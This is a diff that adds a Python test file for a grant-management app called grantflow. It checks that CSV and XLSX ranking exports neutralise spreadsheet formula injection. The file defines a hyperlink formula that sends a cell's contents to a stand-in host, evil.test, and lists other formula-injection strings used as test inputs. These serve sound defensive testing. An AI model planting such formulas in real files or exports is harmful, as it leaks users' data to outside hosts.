@@ -1,0 +1,42 @@
+"""Findings of an attacker's review, each with the test that showed it: formulas in exports,
+sessions that outlive logout, drafts seen by the municipality, the bare cooperation step,
+lock-outs anyone can trigger, timing that tells which accounts exist, evaluators' names in
+the history, budgets below what is committed, mail to unconfirmed addresses, security
+headers, direction-override characters in file names and reports created by a GET."""
+
+import csv
+import io
+
+from openpyxl import load_workbook
+
+from grantflow.core.extensions import db
+from grantflow.core.safety import spreadsheet_cell
+from tests.conftest import login
+from tests.test_ranking import scored
+
+HYPERLINK = '=HYPERLINK("http://evil.test/?leak="&C2,"Klikšķini")'
+
+
+# --- 1. spreadsheet formulas ------------------------------------------------------------------
+def test_spreadsheet_cell_neutralises_formulas_and_keeps_numbers():
+    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", HYPERLINK):
+        assert spreadsheet_cell(text) == "'" + text
+    for value in ("Biedrība", "", 5, -5, 1.5):
+        assert spreadsheet_cell(value) == value
+
+
+def test_ranking_exports_carry_no_formulas(client, factory):
+    competition = factory.competition()
+    org = factory.organisation(name=HYPERLINK)
+    scored(factory, competition, [9, 9], title="@SUM(1+1)", org=org, amount="1000.00")
+    admin = factory.admin()
+    db.session.commit()
+    login(client, admin.email)
+    body = client.get(f"/review/competitions/{competition.id}/ranking.csv").get_data().decode("utf-8-sig")
+    row = list(csv.reader(io.StringIO(body)))[1]
+    assert row[2] == "'@SUM(1+1)" and row[3] == "'" + HYPERLINK
+    sheet = load_workbook(io.BytesIO(client.get(f"/review/competitions/{competition.id}/ranking.xlsx").get_data())).active
+    values = list(sheet.values)[1]
+    assert values[2] == "'@SUM(1+1)" and values[3] == "'" + HYPERLINK
+    assert all(not (isinstance(v, str) and v.startswith("=")) for row in sheet.values for v in row)
+    assert isinstance(values[7], (int, float))  # the requested amount stays a number
